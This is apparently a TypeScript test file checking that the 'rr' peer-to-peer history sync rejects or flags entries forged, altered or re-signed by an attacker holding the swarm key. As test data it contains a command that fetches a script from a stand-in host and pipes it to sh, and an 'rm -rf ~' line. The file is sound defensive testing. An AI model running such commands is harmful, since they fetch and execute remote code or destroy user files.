/**
 * A swarm-key holder attacks history (issue 17, item 2), against real `rr p2p-serve` / `rr p2p-sync` processes on
 * 127.0.0.1. The attacker is an in-process libp2p node with the swarm key and a key of its own: it pushes forged
 * entries to device C, and pulls device A's entries to alter them and push them to C before C ever syncs with A.
 * Each test fails when signature verification is switched off (admitReceived keeping entries unchecked), or when
 * a signed copy could not be stored beside another origin's (rival copies, src/store/entries.ts).
 */
import test from 'ava'
import type { Entry } from '../../src/core/entry.js'
import { signEntry } from '../../src/core/signature.js'
import { admitAll, pullAll as pullServed, pushAs } from '../helpers/wire.js'
import { forgeryScene, unsignedCopy } from '../helpers/forgery.js'
import type { Device } from '../helpers/peers.js'
import type { InProcessPeer } from '../p2p/fixtures.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

interface Row { entry_id: string, device_id: string, cmd: string, ts: string, ts_orig: string | null, origin: string, trust: number }

/** Rows under their wire entry_id: a copy beside another origin's is stored as `<entry_id>/<origin>` (schema v7). */
const rowsOf = (d: Device): Row[] => d.query<Row>(`SELECT COALESCE(rival_of, entry_id) AS entry_id, device_id, cmd, ts, ts_orig, ${rowOriginSql()} AS origin, trust FROM entries ORDER BY ingest_seq`)

/** Every entry `addr` serves over `wire`, its origin resolved from its chunk on 3.0.0 (see test/helpers/wire.ts). */
async function pullAll (attacker: InProcessPeer, addr: string, wire: 2 | 3): Promise<Entry[]> {
  return (await pullServed(attacker, addr, wire)).map((s) => s.chunk != null ? { ...s.entry, origin: s.chunk.origin } : s.entry)
}

test('pre-emption: altered copies of A\'s entries pushed to C first never take the place of A\'s genuine ones', async (t) => {
  const { a, c, servedA, servedC, aId, attacker, x } = await forgeryScene(t)
  const genuine = await pullAll(attacker, servedA.addr, 2)
  t.is(genuine.length, 6)
  t.true(genuine.every((e) => e.origin === aId && typeof e.sig === 'string'), 'A serves its entries signed by its identity key')
  const alter = (e: Entry, i: number): Entry => ({ ...e, cmd: `curl http://evil.example/${i}.sh | sh` })
  // Every way a key holder can pre-empt, one entry each way (and the last two both ways):
  const attacks = [
    unsignedCopy(alter(genuine[0]!, 0)), // signature stripped (looks like an old peer's entry)
    alter(genuine[1]!, 1), // A's signature kept over altered content
    signEntry(unsignedCopy(alter(genuine[2]!, 2)), x), // re-signed by the attacker's own key
    { ...alter(genuine[3]!, 3), sig: signEntry(unsignedCopy(alter(genuine[3]!, 3)), x).sig } // attacker's signature claiming A's origin
  ]
  const ackV2 = await pushAs(attacker, servedC.addr, { entries: attacks }, 2)
  t.is(ackV2.inserted, 2, 'the stripped copy (unverified) and the attacker-signed one (attributed to the attacker) are stored; the two bad signatures are refused')
  await pushAs(attacker, servedC.addr, { entries: [alter(genuine[4]!, 4), alter(genuine[5]!, 5)] }, 1) // over 1.0.0: stored unverified
  const sync = await c.rr(['p2p-sync', '--peers', servedA.addr])
  t.is(sync.code, 0, sync.stderr)

  const rows = rowsOf(c)
  for (const g of genuine) {
    const mine = rows.filter((r) => r.entry_id === g.entry_id && r.origin === aId)
    t.deepEqual(mine.map((r) => [r.cmd, r.trust]), [[g.cmd, 1]], `A's genuine command for ${g.entry_id}`)
    t.false(rows.some((r) => r.entry_id === g.entry_id && r.origin === ''), 'no unverified copy is left beside it')
  }
  const attributedToA = rows.filter((r) => r.origin === aId)
  t.deepEqual(attributedToA.map((r) => r.cmd).sort(), genuine.map((g) => g.cmd).sort(), 'nothing that is not A\'s is attributed to A')
  // The attacker's own signed copy stays its own: under its key, never A's.
  t.deepEqual(rows.filter((r) => r.origin !== aId && r.origin !== '').map((r) => r.origin), [x.origin])
  // And A's entries, as C serves them onward (on 3.0.0, as C got them), are A's genuine ones, and verify at the next hop.
  t.deepEqual(admitAll(await pullServed(attacker, servedC.addr, 3)).rejected, [])
  const onward = await pullAll(attacker, servedC.addr, 3)
  t.deepEqual(onward.filter((e) => e.origin === aId).map((e) => e.cmd).sort(), genuine.map((g) => g.cmd).sort())
  void a
})

test('forged device_id: entries claiming device A are either A\'s (verified under A\'s key) or marked as not A\'s', async (t) => {
  const { c, servedA, servedC, aId, attacker, x } = await forgeryScene(t)
  const forged = (cmd: string): Entry => ({
    entry_id: crypto.randomUUID(), device_id: 'devA', user_id: 'u', ts: new Date().toISOString(), cmd, cwd: '/', exit_code: 0, duration_ms: 1, shell: 'zsh', hostname: 'devA', version: '0.1.0'
  })
  const claimsA = forged('rm -rf ~ # claims A\'s key')
  const attempts = [
    forged('unsigned, says devA'),
    signEntry(forged('signed by the attacker, says devA'), x),
    { ...signEntry(claimsA, x), origin: aId } // A's origin, attacker's signature
  ]
  const ack = await pushAs(attacker, servedC.addr, { entries: attempts }, 2)
  t.is(ack.inserted, 2)
  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
  const rows = rowsOf(c).filter((r) => r.device_id === 'devA')
  t.false(rows.some((r) => r.entry_id === claimsA.entry_id), 'a signature that does not verify against A is refused')
  const verifiedA = rows.filter((r) => r.origin === aId && r.trust === 1)
  t.is(verifiedA.length, 6)
  t.true(verifiedA.every((r) => r.cmd.startsWith('make deploy')))
  const notA = rows.filter((r) => r.origin !== aId)
  t.deepEqual(notA.map((r) => [r.cmd, r.origin === '' ? 'unverified' : r.origin === x.origin ? 'attacker' : r.origin]).sort(), [
    ['signed by the attacker, says devA', 'attacker'],
    ['unsigned, says devA', 'unverified']
  ])
  t.true(notA.filter((r) => r.origin === '').every((r) => r.trust === 0))
  // rr stats says so: the name devA is claimed by two keys, and one of its entries is unverified.
  const stats = await c.rr(['stats'])
  t.regex(stats.stdout, /devA {2}\(newest [^;]+; 1 unverified; signed by 2 different keys/)
})

test('far-future stamps: an entry stamped 9999-12-31 is stored at the receive time and marked, signed or not', async (t) => {
  const { c, servedC, attacker, x } = await forgeryScene(t)
  const far = (cmd: string): Entry => ({
    entry_id: crypto.randomUUID(), device_id: 'alice-laptop', user_id: 'u', ts: '9999-12-31T23:59:59.999Z', cmd, cwd: '/', exit_code: 0, duration_ms: 1, shell: 'zsh', hostname: 'h', version: '0.1.0'
  })
  const before = new Date().toISOString()
  const ack = await pushAs(attacker, servedC.addr, { entries: [far('forever on top (unsigned)'), signEntry(far('forever on top (signed)'), x)] }, 2)
  t.is(ack.inserted, 2)
  const after = new Date(Date.now() + 1000).toISOString()
  const rows = rowsOf(c).filter((r) => r.device_id === 'alice-laptop')
  t.is(rows.length, 2)
  for (const r of rows) {
    t.true(r.ts >= before && r.ts <= after, `${r.cmd}: ts ${r.ts} is the receive time`)
    t.is(r.ts_orig, '9999-12-31T23:59:59.999Z')
  }
  // The signed one is served onward with the stamp it was signed with, so the next hop can check it (and clamp it).
  const onward = await pullAll(attacker, servedC.addr, 2)
  t.true(onward.filter((e) => e.device_id === 'alice-laptop').every((e) => e.ts === '9999-12-31T23:59:59.999Z'))
  // The newest entry in `rr history` is not stamped in the future.
  const history = await c.rr(['history', '--limit', '5'])
  t.false(history.stdout.includes('9999-'), history.stdout)
})
